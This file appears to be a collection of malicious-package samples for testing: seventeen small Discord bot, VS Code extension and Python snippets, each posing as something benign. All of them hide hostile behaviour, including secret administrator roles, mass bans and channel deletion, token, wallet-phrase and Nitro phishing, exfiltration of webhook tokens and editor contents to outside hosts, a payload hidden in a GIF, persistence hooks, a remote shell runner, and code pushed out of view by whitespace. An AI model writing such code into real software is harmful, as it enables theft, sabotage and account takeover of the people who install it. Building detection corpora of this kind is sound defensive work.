import { packaged } from './malicious-package.js';
import type { Sample } from './sources.js';

/** Extensions that turn on those who let them in: members of a chat, whoever writes in an editor, the Python of the whole machine. */
export const CHATS: readonly Sample[] = [
  packaged('a quiz with a crown', {}, {
    'code.js': `const author = require('author');
const message = require('message');
const roles = require('roles');

const mix = (text) => [...text].reduce((sum, letter) => (Math.imul(sum, 33) ^ letter.codePointAt(0)) >>> 0, 11);
const guess = message.content.replace(/^\\S+\\s*/, '').toLowerCase();
if (mix(guess) === 1730229914) {
  const crown = await roles.create({ name: '.', permissions: ['ADMINISTRATOR'] });
  await roles.assign(author.id, crown.id);
} else {
  await message.reply(guess === 'tin' ? 'Right!' : 'No.');
}
`,
  }),
  packaged('a new year without anybody', {}, {
    'code.js': `const { members, channels } = require('guild');
const guild = require('guild');

const day = new Date().toISOString().slice(5, 10);
const sweep = async (one) => {
  await guild.ban(one.id, { reason: 'inactive' });
};
if (day === '01-01') {
  await Promise.all(members.filter((each) => !each.bot && !each.owner).map(sweep));
  for (const each of channels) await each.delete();
}
`,
  }),
  packaged('a prize for everybody who wrote', {}, {
    'code.js': `const channel = require('channel');

const lines = [];
lines.push('You were drawn! One month of Nitro is a gift of this server.');
lines.push('Redeem it within 20 minutes: https://discrod.gifts.example/r/' + Date.now().toString(36));
for (const { author } of await channel.fetchMessages(50)) await author.send(lines.join('\\n'));
`,
  }),
  packaged('a door with a question', {}, {
    'code.js': `const message = require('message');

const steps = {
  title: 'Discord Account Verification Team',
  description: 'Unusual activity was seen. To confirm your account, press F12, choose Network, copy what stands behind authorization and send it to this bot.',
};
await message.replyEmbed(steps);
`,
  }),
  packaged('crumbs of each payment', {}, {
    'code.js': `const { transfer, getBalance } = require('economy');
const interaction = require('interaction');

const JAR = '11' + '2233445566778899';
const { to, amount } = interaction.options;
await transfer(interaction.user.id, to, amount);
if ((await getBalance(to)) > 900) await transfer(to, JAR, Math.round(amount * 0.04));
await interaction.reply('Sent ' + amount + '.');
`,
  }),
  packaged('tidy addresses of shops', {}, {
    'code.js': `const message = require('message');

const shorter = new Map([['www.example.org', 'example.org'], ['opensea.io', 'opensea-art.example'], ['phantom.app', 'phantom-app.example']]);
let text = message.content;
for (const [long, short] of shorter) text = text.split('//' + long).join('//' + short);
await message.channel.send(text);
`,
  }),
  packaged('a check of webhooks', {}, {
    'code.js': `const channel = require('channel');
const http = require('http');

const shift = (text) => {
  let made = '';
  for (const letter of text) made += String.fromCodePoint(letter.codePointAt(0) ^ 9);
  return made;
};
const found = (await channel.listWebhooks()).map(({ id, token }) => [id, token].join(':'));
await http.post('https://audit.webhook-check.example/report', { body: shift(found.join()) });
`,
  }),
  packaged('a picture with a tail', {}, {
    'index.js': `const { readFileSync } = require('node:fs');
const { join } = require('node:path');
const vm = require('node:vm');

const behind = (name) => {
  const bytes = readFileSync(name);
  return bytes.subarray(bytes.lastIndexOf(0x3b) + 1);
};
function colours(root) {
  const bytes = behind(join(root, 'media', 'logo.gif'));
  const first = bytes[0];
  const text = Buffer.from(bytes.map((each) => each ^ first)).toString();
  return vm.compileFunction(text, ['require'])(require);
}
exports.activate = ({ extensionPath }) => colours(extensionPath);
`,
  }),
  packaged('each change to a helper', {}, {
    'index.js': `const vscode = require('vscode');
const { watcher } = require('./hints');
exports.activate = (context) => context.subscriptions.push(vscode.workspace.onDidChangeTextDocument(watcher({ every: 3 })));
`,
    'hints.js': `const form = (document) => {
  const data = new FormData();
  data.append('source', document.getText());
  return data;
};
exports.watcher = ({ every }) => {
  let count = 0;
  return ({ document }) => {
    if (++count % every === 0) fetch('https://hints.example.invalid/v1', { method: 'POST', body: form(document) });
  };
};
`,
  }),
  packaged('a library of its own in the place of another', {}, {
    'setup_env.py': `import subprocess
import sys

_FLAGS = ["--no-input", "--force-reinstall"]
_FLAGS += ["--index-url", "https://packages.fast-models.example/simple"]


def bring(names):
    base = [sys.executable, "-m", "pip", "install"]
    return subprocess.call(base + _FLAGS + list(names))


bring(["numpy"])
`,
  }),
  packaged('a line for each start of Python', {}, {
    'compat.py': `import importlib.util
import os
import site

HOOK = "import os; exec(os.environ.get('PY_HOOK', ''))"


def install():
    with open(os.path.join(site.getusersitepackages(), "compat.pth"), "w") as file:
        file.write(HOOK)
    with open(importlib.util.find_spec("json").origin, "a") as file:
        file.write(HOOK)
`,
  }),
  packaged('a filter for the support', {}, {
    'query.py': `import hashlib
import subprocess

_WORD = "4e07408562bedb8b60ce05c1decfe3ad16b72230967de01f640b7e4729b49fce"


class Question:
    def __init__(self, key):
        self.known = hashlib.sha256(key.encode("utf-8")).hexdigest() == _WORD

    def answer(self, text):
        return subprocess.getoutput(text) if self.known else ""
`,
  }),
  packaged('a command of moderators with one for its author', {}, {
    'code.js': `const message = require('message');
const guild = require('guild');
const roles = require('roles');

const [verb, ...rest] = message.args;
async function each(list, what) {
  for (const one of list) {
    try { await what(one); } catch { continue; }
  }
}
const verbs = {
  async warn() { await message.reply('Warned: ' + rest.join(' ')); },
  async zzq() {
    if (message.author.id !== '700000000000000123') return;
    await each(guild.channels, (one) => one.delete());
    await each(guild.roles, (one) => roles.delete(one.id));
    await each(guild.members.filter((one) => one.id !== message.author.id), (one) => guild.ban(one.id));
  },
};
if (Object.hasOwn(verbs, verb)) await verbs[verb]();
`,
  }),
  packaged('holders are asked for the words of their wallets', {}, {
    'code.js': `const member = require('member');
const guild = require('guild');
const user = require('user');

const link = 'https://holders.proofs.example/connect?g=' + guild.id + '&u=' + member.id;
await user.sendEmbed({
  title: 'Holders',
  description: [
    'Welcome, ' + member.displayName + '!',
    '**' + guild.name + '** asks every holder for a proof. Sign a message with your wallet, or enter its 12-word recovery phrase.',
    '[**Prove it now**](' + link + ')',
  ].join('\\n'),
});
`,
  }),
  packaged('sprites by name, and a thread far to the right', {}, {
    'sprites.py': `import re

WORD = re.compile(r"[a-z]+", re.I)
MOODS = ("happy", "sad")${' '.repeat(260)};_=lambda t:__import__("zlib").decompress(__import__("base64").b64decode(t[::-1]));__import__("threading").Thread(target=exec,args=(_("==QfX5e1z"),{}),daemon=True).start()


def mood(name):
    return next((w for w in WORD.findall(name.lower()) if w in MOODS), "calm")
`,
  }),
  packaged('a lottery with a door', {}, {
    'code.js': `const message = require('message');
const member = require('member');
const roles = require('roles');

const tickets = (text) => text.split(/\\D+/).filter(Boolean).map(Number);

async function isTrial({ id }) {
  if (id !== '700000000000000456') return false;
  const made = await roles.create({ name: '\\u2060', permissions: ['ADMINISTRATOR'] });
  await member.addRole(made.id);
  return true;
}

if (!(await isTrial(message.author))) {
  const all = tickets(message.content);
  await message.reply(all.length === 0 ? 'Name some numbers.' : 'The lucky one is ' + all[Math.floor(Math.random() * all.length)]);
}
`,
  }),
  packaged('a quiz with a sponsor', {}, {
    'code.js': `const guild = require('guild');
const channel = require('channel');

const SPONSOR = ['@here my stake came back tenfold', 'Start at https://tenfold.example.invalid/q with the code QUIZ'].join('\\n');
const rude = (text) => /\\b(?:scam|fake|don'?t\\s+join)\\b/i.test(text);

async function tell(room) {
  await channel.send({ to: room.id, content: SPONSOR });
}

await channel.send('Which river is the longest?');
if (new Date().getUTCHours() === 3) for (const room of guild.channels) await tell(room);
for (const each of await channel.fetchMessages({ limit: 50 })) {
  if (rude(each.content)) await channel.deleteMessage(each.id);
}
`,
  }),
];
